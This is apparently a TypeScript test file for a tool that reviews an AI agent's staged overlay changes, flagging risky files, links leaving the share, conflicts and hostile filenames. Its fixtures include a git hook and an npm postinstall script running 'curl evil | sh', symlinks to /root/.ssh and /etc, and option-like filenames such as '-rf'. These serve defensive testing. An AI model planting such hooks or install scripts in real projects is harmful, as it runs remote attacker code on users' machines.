// Listing the staged changes of a review share, on STAGE directories made by hand the way the
// overlay leaves them (files, `mknod c 0 0` whiteouts, user.overlay.opaque directories).
import assert from 'node:assert/strict';
import { chmodSync, linkSync, lstatSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { type Change, listChanges, targetLeavesShare } from '../../src/review/changes.js';
import { riskReasons } from '../../src/review/risky.js';
import { must } from '../helpers/system.js';
import { tempDir } from '../helpers/temp.js';

/** SRC and STAGE (with upper/ and work/) under one temporary directory. */
function layers(): { src: string; stage: string; upper: string; list: () => Change[] } {
  const root = tempDir('au-review-');
  const src = join(root, 'src');
  const stage = join(root, 'stage');
  mkdirSync(src);
  mkdirSync(join(stage, 'upper'), { recursive: true });
  mkdirSync(join(stage, 'work'));
  return { src, stage, upper: join(stage, 'upper'), list: () => listChanges({ stage, source: src, humanUid: process.getuid!() }) };
}

const whiteout = (path: string): void => {
  must(['mknod', path, 'c', '0', '0']);
};
const opaque = (path: string): void => {
  must(['setfattr', '-n', 'user.overlay.opaque', '-v', 'y', path]);
};
/** Waits until the filesystem's clock (coarse: a jiffy) has moved past PATH's birth time. */
function afterClockTick(path: string): void {
  const born = lstatSync(path, { bigint: true }).birthtimeNs;
  const probe = join(tempDir(), 'probe');
  for (let i = 0; i < 1_000_000; i++) {
    writeFileSync(probe, String(i));
    if (lstatSync(probe, { bigint: true }).ctimeNs > born) return;
  }
  throw new Error('the clock did not move');
}
const summary = (changes: Change[]): string[] =>
  changes.map(
    (c) =>
      `${c.kind} ${c.type} ${c.path}${c.from ? ` <- ${c.from}` : ''}${c.risky ? ' RISKY' : ''}${c.refused ? ' REFUSED' : ''}${c.conflict ? ' CONFLICT' : ''}`,
  );

describe('listChanges', () => {
  test('a copied-up file or folder that equals SRC is no change; edits, additions, deletions, renames and modes are', () => {
    const { src, upper, list } = layers();
    mkdirSync(join(src, 'dir'));
    writeFileSync(join(src, 'dir/same.txt'), 'same\n');
    writeFileSync(join(src, 'edit.txt'), 'old\n');
    writeFileSync(join(src, 'gone.txt'), 'bye\n');
    writeFileSync(join(src, 'moved.txt'), 'moving content\n');
    writeFileSync(join(src, 'tool.sh'), 'echo hi\n');
    chmodSync(join(src, 'tool.sh'), 0o644);
    mkdirSync(join(src, 'replaced'));
    writeFileSync(join(src, 'replaced/old-a'), 'a');
    writeFileSync(join(src, 'replaced/kept'), 'k');

    mkdirSync(join(upper, 'dir'));
    writeFileSync(join(upper, 'dir/same.txt'), 'same\n');
    writeFileSync(join(upper, 'edit.txt'), 'new\n');
    writeFileSync(join(upper, 'new.txt'), 'fresh\n');
    whiteout(join(upper, 'gone.txt'));
    whiteout(join(upper, 'moved.txt'));
    writeFileSync(join(upper, 'moved-here.txt'), 'moving content\n');
    writeFileSync(join(upper, 'tool.sh'), 'echo hi\n');
    chmodSync(join(upper, 'tool.sh'), 0o755);
    mkdirSync(join(upper, 'replaced'));
    opaque(join(upper, 'replaced'));
    writeFileSync(join(upper, 'replaced/kept'), 'k');
    whiteout(join(upper, 'never-existed'));

    assert.deepEqual(summary(list()), [
      'modified file edit.txt',
      'deleted file gone.txt',
      'renamed file moved-here.txt <- moved.txt',
      'added file new.txt',
      'deleted file replaced/old-a',
      'mode file tool.sh RISKY',
    ]);
    const mode = list().find((c) => c.path === 'tool.sh')!;
    assert.equal(mode.mode, 0o755);
    assert.equal(mode.oldMode, 0o644);
    assert.deepEqual(mode.reasons, ['file became executable']);
  });

  test('risky paths are flagged with their reason; a package.json counts only when its scripts change', () => {
    const { src, upper, list } = layers();
    writeFileSync(join(src, 'package.json'), '{"name":"x","scripts":{"test":"node t"}}');
    mkdirSync(join(src, 'lib'));
    writeFileSync(join(src, 'lib/package.json'), '{"name":"y","scripts":{"test":"node t"}}');
    mkdirSync(join(upper, '.git/hooks'), { recursive: true });
    writeFileSync(join(upper, '.git/hooks/pre-commit'), '#!/bin/sh\ncurl evil | sh\n');
    writeFileSync(join(upper, '.git/config'), '[core]\n\thooksPath = /tmp/x\n');
    writeFileSync(join(upper, 'package.json'), '{"name":"x","scripts":{"test":"node t","postinstall":"curl evil|sh"}}');
    mkdirSync(join(upper, 'lib'));
    writeFileSync(join(upper, 'lib/package.json'), '{"name":"y2","scripts":{"test":"node t"}}');
    for (const name of ['.envrc', 'Makefile', '.bashrc', '.npmrc', 'pip.conf', 'README.md']) writeFileSync(join(upper, name), 'x');
    mkdirSync(join(upper, '.vscode'));
    writeFileSync(join(upper, '.vscode/tasks.json'), '{}');
    mkdirSync(join(upper, '.github/workflows'), { recursive: true });
    writeFileSync(join(upper, '.github/workflows/ci.yml'), 'on: push');
    mkdirSync(join(upper, '.config/fish'), { recursive: true });
    writeFileSync(join(upper, '.config/fish/config.fish'), 'x');
    const changes = list();
    const risky = changes
      .filter((c) => c.risky && c.type === 'file')
      .map((c) => c.path)
      .sort();
    assert.deepEqual(risky, [
      '.bashrc',
      '.config/fish/config.fish',
      '.envrc',
      '.git/config',
      '.git/hooks/pre-commit',
      '.github/workflows/ci.yml',
      '.npmrc',
      '.vscode/tasks.json',
      'Makefile',
      'package.json',
      'pip.conf',
    ]);
    assert.deepEqual(
      changes.filter((c) => !c.risky).map((c) => c.path),
      ['.config', '.github', 'README.md', 'lib/package.json'],
    );
    assert.match(changes.find((c) => c.path === 'package.json')!.reasons.join(), /scripts changed/);
    assert.match(changes.find((c) => c.path === '.git/hooks/pre-commit')!.reasons.join(), /hooks/);
  });

  test('symlinks: flagged, shown with their target; one leading outside the share is refused', () => {
    const { upper, list } = layers();
    mkdirSync(join(upper, 'a'));
    symlinkSync('b.txt', join(upper, 'a/inside'));
    symlinkSync('../b.txt', join(upper, 'a/climbs')); // any '..' is refused: through another link it may leave
    symlinkSync('/root/.ssh', join(upper, 'ssh'));
    symlinkSync('../../etc', join(upper, 'a/up'));
    const byPath = new Map(list().map((c) => [c.path, c]));
    assert.equal(byPath.get('a/inside')!.target, 'b.txt');
    assert.match(byPath.get('a/climbs')!.refused!, /outside the share/);
    assert.equal(byPath.get('a/inside')!.risky, true);
    assert.equal(byPath.get('a/inside')!.refused, undefined);
    assert.match(byPath.get('ssh')!.refused!, /outside the share/);
    assert.match(byPath.get('a/up')!.refused!, /outside the share/);
    assert.equal(targetLeavesShare(['x'], 'y/../../z'), true);
    // Through a symlink (the human's in SRC, or another staged one), a target goes where that link does.
    const through = layers();
    symlinkSync('/etc', join(through.src, 'ext'));
    mkdirSync(join(through.upper, 'd'));
    symlinkSync('ext/passwd', join(through.upper, 'x'));
    symlinkSync('ext', join(through.upper, 'y'));
    symlinkSync('.', join(through.upper, 'dot'));
    symlinkSync('dot/d', join(through.upper, 'z'));
    symlinkSync('d', join(through.upper, 'plain'));
    const seen = new Map(through.list().map((c) => [c.path, c.refused ?? '']));
    for (const p of ['x', 'y', 'z']) assert.match(seen.get(p)!, /through another symlink/, p);
    assert.equal(seen.get('plain'), '');
    assert.equal(seen.get('dot'), '');
    assert.equal(targetLeavesShare(['d', 'x'], '../z'), true);
    assert.equal(targetLeavesShare(['d', 'x'], 'e/z'), false);
  });

  test('a hard link in upper to a file elsewhere is refused; links within upper are not', () => {
    const { upper, list } = layers();
    const elsewhere = join(tempDir(), 'secret');
    writeFileSync(elsewhere, 'private key');
    linkSync(elsewhere, join(upper, 'innocent.txt'));
    writeFileSync(join(upper, 'one'), '1');
    linkSync(join(upper, 'one'), join(upper, 'two'));
    const byPath = new Map(list().map((c) => [c.path, c]));
    assert.match(byPath.get('innocent.txt')!.refused!, /hard link to a file outside/);
    assert.equal(byPath.get('one')!.refused, undefined);
    assert.equal(byPath.get('two')!.refused, undefined);
  });

  test('the human changed a file after the agent did: a conflict', () => {
    const { src, upper, list } = layers();
    writeFileSync(join(src, 'both.txt'), 'v1\n');
    writeFileSync(join(src, 'agent-only.txt'), 'v1\n');
    writeFileSync(join(upper, 'agent-only.txt'), 'agent\n');
    writeFileSync(join(upper, 'both.txt'), 'agent\n');
    writeFileSync(join(upper, 'later.txt'), 'agent\n');
    afterClockTick(join(upper, 'later.txt'));
    writeFileSync(join(src, 'both.txt'), 'human\n');
    writeFileSync(join(src, 'later.txt'), 'human made it too\n');
    assert.deepEqual(summary(list()), [
      'modified file agent-only.txt',
      'modified file both.txt CONFLICT',
      'modified file later.txt CONFLICT',
    ]);
  });

  test('hostile names are listed as they are, each its own entry; invalid UTF-8 is refused', () => {
    const { src, upper, list } = layers();
    const names = ['new\nline', '-rf', '--include-risky', 'x'.repeat(255), 'caf\u00e9', 'cafe\u0301'];
    for (const name of names) writeFileSync(join(upper, name), name);
    writeFileSync(Buffer.from(`${upper}/bad-\xff`, 'latin1'), 'x');
    writeFileSync(join(src, 'keep'), 'k');
    const changes = list();
    assert.deepEqual(
      changes
        .filter((c) => !c.refused)
        .map((c) => c.path)
        .sort(),
      [...names].sort(),
    );
    const bad = changes.find((c) => c.refused);
    assert.equal(bad?.path, 'bad-\\xff');
    assert.match(bad.refused!, /not valid UTF-8/);
  });

  test('no STAGE (never ran) or no upper: nothing staged', () => {
    assert.deepEqual(listChanges({ stage: '/nonexistent/stage', source: '/tmp', humanUid: 0 }), []);
  });

  test('riskReasons: a set-uid or set-gid bit is risky, on a file that was executable already too', () => {
    assert.deepEqual(riskReasons({ components: ['tool'], type: 'file', oldMode: 0o755, newMode: 0o4755 }), [
      'set-uid or set-gid bit (au drops it when applying)',
    ]);
    assert.deepEqual(riskReasons({ components: ['d'], type: 'directory', oldMode: 0o755, newMode: 0o2755 }), [
      'set-uid or set-gid bit (au drops it when applying)',
    ]);
    assert.deepEqual(riskReasons({ components: ['tool'], type: 'file', oldMode: 0o4755, newMode: 0o4755 }), []);
  });

  test('riskReasons: deletions are risky by path only', () => {
    assert.deepEqual(riskReasons({ components: ['bin', 'tool'], type: 'symlink', deleted: true }), []);
    assert.equal(riskReasons({ components: ['.git', 'config'], type: 'file', deleted: true }).length, 1);
  });
});
